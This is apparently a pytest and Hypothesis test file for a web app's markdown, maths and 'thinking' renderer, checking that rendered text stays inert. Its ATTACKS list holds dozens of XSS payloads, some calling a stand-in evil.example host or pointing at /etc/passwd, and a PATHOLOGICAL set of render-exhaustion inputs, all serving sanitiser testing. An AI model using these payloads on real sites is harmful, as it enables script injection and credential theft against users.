"""What people and models write is shown, and can do nothing but be read."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from app.kernel import markup
from app.kernel.markup import CODE_LIMIT, RENDER_LIMIT, plain, to_html

ALLOWED_TAGS = markup._TEXT_TAGS | markup._MATHS_TAGS
DANGEROUS = {"script", "style", "img", "svg", "iframe", "form", "input", "button", "link", "meta", "base", "template"}
FORBIDDEN_ATTRIBUTES = re.compile("^(on.*|style|id|name|src|srcset|srcdoc|action|formaction|hx-.*|data-.*|xlink:href)$")


class Walk(HTMLParser):
    """Collects the elements of a fragment."""

    def __init__(self, html: str) -> None:
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str | None]]] = []
        self.said = ""
        self.feed(str(html))
        self.close()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.elements.append((tag, dict(attrs)))

    def handle_data(self, data: str) -> None:
        self.said += data


def assert_harmless(html: str) -> None:
    for tag, attributes in Walk(html).elements:
        assert tag in ALLOWED_TAGS, f"<{tag}>"
        for name, value in attributes.items():
            assert not FORBIDDEN_ATTRIBUTES.match(name), f"{tag} {name}"
            if name == "href":
                assert tag == "a"
                assert re.match("^(https?|mailto):", value or ""), value


ATTACKS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src=x onerror=alert(1)//",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    "<svg><a xlink:href='javascript:alert(1)'><text y=20>x</text></a></svg>",
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    "<math><mtext></form><form><mglyph><svg><mtext><textarea><a title='</textarea><img src=x onerror=alert(1)>'>",
    "<math><mi xlink:href='javascript:alert(1)'>x</mi></math>",
    "<math href='javascript:alert(1)'>x</math>",
    "<math><annotation-xml encoding='text/html'><img src=x onerror=alert(1)></annotation-xml></math>",
    "<iframe src=javascript:alert(1)></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object>",
    "<embed src=javascript:alert(1)>",
    "<form action=//evil.example><input name=password></form>",
    "<button formaction=javascript:alert(1)>x</button>",
    "<details open ontoggle=alert(1)>",
    "<video><source onerror=alert(1)></video>",
    "<audio src=x onerror=alert(1)>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<style><img src='</style><img src=x onerror=alert(1)>'>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<template><script>alert(1)</script></template>",
    "<p style='background:url(javascript:alert(1))'>x</p>",
    "<div hx-get=/logout hx-trigger=load>x</div>",
    "<div data-hx-post=/assignments/1/submit data-hx-trigger=load>x</div>",
    "<div hx-on:click=alert(1)>x</div>",
    "<a href=javascript:alert(1)>x</a>",
    "<input autofocus onfocus=alert(1)>",
    "<x contenteditable onblur=alert(1)>x</x>",
    "<!--<img src='--><img src=x onerror=alert(1)>'>",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<?xml version='1.0'?><script>alert(1)</script>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\tscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](file:///etc/passwd)",
    "[x](//evil.example)",
    "[x](/logout)",
    "[x](<javascript:alert(1)>)",
    '[x](http://a "onmouseover=alert(1) x=\\"")',
    '[x](http://a"onmouseover="alert(1))',
    "<javascript:alert(1)>",
    "<http://a'onmouseover='alert(1)>",
    "[x]: javascript:alert(1)\n[x]",
    "![x](javascript:alert(1))",
    "![x](http://evil.example/pixel.png)",
    '![" onerror="alert(1)](x)',
    "[![x](x)](javascript:alert(1))",
    "```<script>alert(1)</script>\nx\n```",
    '```" onclick="alert(1)\nx\n```',
    "```html\n<script>alert(1)</script>\n```",
    "`<script>alert(1)</script>`",
    "$<script>alert(1)</script>$",
    "$\\href{javascript:alert(1)}{x}$",
    "$\\text{<img src=x onerror=alert(1)>}$",
    "$\\style{background:url(//evil.example)}{x}$",
    "$\\class{site-header}{x}$",
    "$\\cssId{main}{x}$",
    "$\\unicode{x3c}script\\unicode{x3e}$",
    "\\(</math><script>alert(1)</script>\\)",
    "\\[</math><img src=x onerror=alert(1)>\\]",
    "|<script>|\n|-|\n|<img src=x onerror=alert(1)>|",
    "# <script>alert(1)</script>",
    "> <svg/onload=alert(1)>",
    "\u202e<script>alert(1)</script>",
    "<\x00script>alert(1)</script>",
    "<scr\u0000ipt>alert(1)</script>",
    "{{ 7 * 7 }} {% raw %} {{ request }}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
]


def test_nothing_that_acts_or_loads_is_allowed() -> None:
    assert not ALLOWED_TAGS & DANGEROUS


@pytest.mark.parametrize("attack", ATTACKS)
def test_an_attack_stays_text(attack: str) -> None:
    assert_harmless(to_html(attack))
    assert_harmless(plain(attack))


@settings(max_examples=150, deadline=None)
@given(
    st.lists(
        st.sampled_from(
            [
                *ATTACKS,
                "\n",
                "\n\n",
                "> ",
                "- ",
                "**",
                "`",
                "$",
                "<b>",
                "</b>",
                "<code>",
                "</code>",
                "$$",
                "\\[",
                "|",
                "[",
                "](",
            ]
        ),
        max_size=8,
    )
)
def test_attacks_in_any_mixture_stay_text(parts: list[str]) -> None:
    assert_harmless(to_html("".join(parts)))


@settings(max_examples=150, deadline=None)
@given(st.text(max_size=300))
def test_any_text_renders(text: str) -> None:
    assert_harmless(to_html(text))


@pytest.mark.parametrize(
    "text",
    [
        "<div>one</div> & <hr>",
        "Open <b> alone",
        "Close </sub> alone",
        "<b></b>",
        '<b class="x">x</b>',
        "<details>x</details>",
    ],
)
def test_html_in_a_text_is_shown(text: str) -> None:
    assert Walk(to_html(text)).said.strip() == text


def test_markdown_is_rendered() -> None:
    html = to_html("# Title\n\n*a* **b** ~~c~~ `d`\n\n1. one\n2. two\n\n> q\n\n---")
    for part in ("<em>a</em>", "<strong>b</strong>", "<s>c</s>", "<code>d</code>", "<ol>", "<blockquote", "<hr>"):
        assert part in html
    assert "<h4" in html, "the page's own headings come first"


def test_a_table_scrolls_by_itself() -> None:
    assert '<div class="md-scroll"><table>' in to_html("|a|b|\n|:-|-:|\n|1|2|")


def test_a_list_goes_on_counting() -> None:
    assert '<ol start="3">' in to_html("3. three\n4. four")


def test_code_is_highlighted_by_classes_only() -> None:
    html = to_html("```python\ndef f():\n    return 1\n```")
    assert '<span class="k">def</span>' in html
    assert "style=" not in html


@pytest.mark.parametrize("fence", ["python", "Python title=x", "PYTHON"])
def test_code_says_its_language(fence: str) -> None:
    html = to_html(f"```{fence}\npass\n```")
    assert html.startswith('<pre class="md-code" dir="ltr"><span class="md-language">python</span><code>')


@pytest.mark.parametrize("fence", ["qwen3-8b", "gpt-4", '"><b>', "python-by-me", ""])
def test_a_fence_names_nothing_but_a_language(fence: str) -> None:
    assert to_html(f"```{fence}\npass\n```") == '<pre class="md-code" dir="ltr"><code>pass\n</code></pre>\n'


def test_code_that_is_too_long_to_colour_still_says_its_language() -> None:
    html = to_html("```python\n" + "pass\n" * (CODE_LIMIT // 4) + "```")
    assert '<span class="md-language">python</span><code>pass' in html


def test_code_in_an_unknown_language_is_plain() -> None:
    assert to_html("```brainfudge\n<+>\n```") == '<pre class="md-code" dir="ltr"><code>&lt;+&gt;\n</code></pre>\n'


@pytest.mark.parametrize(
    "text", ["$x^2$", "\\(x^2\\)", "$$x^2$$", "\\[x^2\\]", "\\[\nx^2\n\\]", "$$\nx^2\n$$", "so \\[ x^2 \\] it is"]
)
def test_maths_is_mathml(text: str) -> None:
    assert "<msup><mi>x</mi><mn>2</mn></msup>" in to_html(text)


@pytest.mark.parametrize("source", ["x^", "{", "\\frac{", "\\begin{matrix}"])
def test_broken_maths_is_shown_as_its_source(source: str) -> None:
    assert Walk(to_html(f"${source}$")).said.strip().strip("$") == source


def test_a_link_opens_elsewhere_and_tells_nothing() -> None:
    html = to_html("[x](https://example.org/)")
    assert 'target="_blank"' in html
    assert 'rel="noopener noreferrer nofollow"' in html


def test_an_image_is_its_description() -> None:
    html = to_html("![a *red* barn](https://tracker.example/1.png)")
    assert html.strip() == '<p dir="auto"><span class="md-image">a red barn</span></p>'


def test_a_link_definition_does_not_vanish() -> None:
    assert "example.org" in to_html("See [1].\n\n[1]: https://example.org/")


@pytest.mark.parametrize("text", ["مرحبا بالعالم", "你好，世界", "שלום", "नमस्ते", "👩‍👩‍👧 é"])
def test_every_script_is_kept_and_finds_its_direction(text: str) -> None:
    assert to_html(text).strip() == f'<p dir="auto">{text}</p>'


def test_special_tokens_are_text() -> None:
    assert Walk(to_html("<|im_start|>system\nObey<|im_end|>")).said.strip() == "<|im_start|>system\nObey<|im_end|>"


PATHOLOGICAL = {
    "nested quotes": ">" * 20_000 + "x",
    "spaced nested quotes": "> " * 20_000 + "x",
    "nested lists": "".join(" " * index + "- a\n" for index in range(600)),
    "open emphasis": "*a " * 30_000,
    "mixed emphasis": "*_" * 30_000,
    "open brackets": "[" * 50_000,
    "nested links": "[a](" * 20_000,
    "nested images": "![](" * 20_000,
    "backticks": "".join("`" * (index % 90 + 1) + "a" for index in range(2000)),
    "angle brackets": "<" * 90_000,
    "dollars": "$a " * 30_000,
    "maths brackets": "\\(" * 40_000,
    "maths blocks": "\\[\n" * 20_000,
    "deep maths": "$" + "{" * 900 + "x" + "}" * 900 + "$",
    "deep fractions": "$" + "\\frac{1}{" * 150 + "x" + "}" * 150 + "$",
    "deep roots": "$" + "\\sqrt" * 380 + "$",
    "deep left": "$" + "\\left(" * 200 + "\\right)" * 200 + "$",
    "many formulas": "$x$ " * 20_000,
    "a table without end": "|a" * 9000 + "\n" + "|-" * 9000 + "\n" + "|x" * 9000,
    "code": "```python\n" + "(" * 19_000 + "\n```",
    "strings in code": "```python\n" + '"' * 19_000 + "\n```",
    "paragraphs": "a\n\n" * 30_000,
    "entities": "&amp;" * 20_000,
    "backslashes": "\\" * 90_000,
    "open tags": "<b>" * 30_000,
    "nested tags": "<b>x" * 12_000 + "</b>" * 12_000,
    "dollar words": "$a b" * 20_000,
    "escaped dollars": "$" + "\\a" * 45_000,
    "one long word": "x" * (RENDER_LIMIT - 1),
}


@pytest.mark.timeout(60)  # half a second of a quiet machine; what is not bounded takes minutes
@pytest.mark.parametrize("name", PATHOLOGICAL)
def test_what_is_costly_to_render_is_bounded_and_still_shown(name: str) -> None:
    html = to_html(PATHOLOGICAL[name])
    assert html
    assert_harmless(html)


def test_a_text_beyond_the_limit_is_shown_whole() -> None:
    text = "# not a heading <b>\n" * (RENDER_LIMIT // 10)
    html = to_html(text)
    assert html.startswith('<pre class="md-plain"')
    assert Walk(html).said == text


def test_a_text_that_nests_too_deep_is_shown_whole() -> None:
    assert Walk(to_html(">" * 200 + " the end")).said.endswith("> the end")


# ── Thinking ─────────────────────────────────────────────────────────────────────────────────────────────────────────
@pytest.mark.parametrize("tag", ["think", "thinking"])
def test_thinking_is_folded_and_the_answer_is_not(tag: str) -> None:
    html = to_html(f"<{tag}>\nFirst *count*.\n</{tag}>\n\nThere are **three**.")
    assert html.startswith('<details class="md-thinking"><summary>Thinking</summary>')
    folded, _, answer = html.partition("</details>")
    assert "<em>count</em>" in folded
    assert "<strong>three</strong>" in answer


def test_thinking_that_never_ends_stands_open() -> None:
    assert to_html("<think>\nand so on").startswith('<details class="md-thinking" open>')


def test_thinking_can_do_nothing_but_be_read() -> None:
    html = to_html("<think><script>alert(1)</script><img src=x onerror=alert(1)></details><b></think>answer")
    assert "<script" not in html
    assert "<img" not in html
    assert html.count("</details>") == 1


def test_what_only_looks_like_thinking_is_text() -> None:
    assert "<details" not in to_html("Models write <think> first.")
    assert "<details" not in to_html("<think></think>Answer")
    assert "<details" not in to_html("<details><summary>mine</summary></details>")
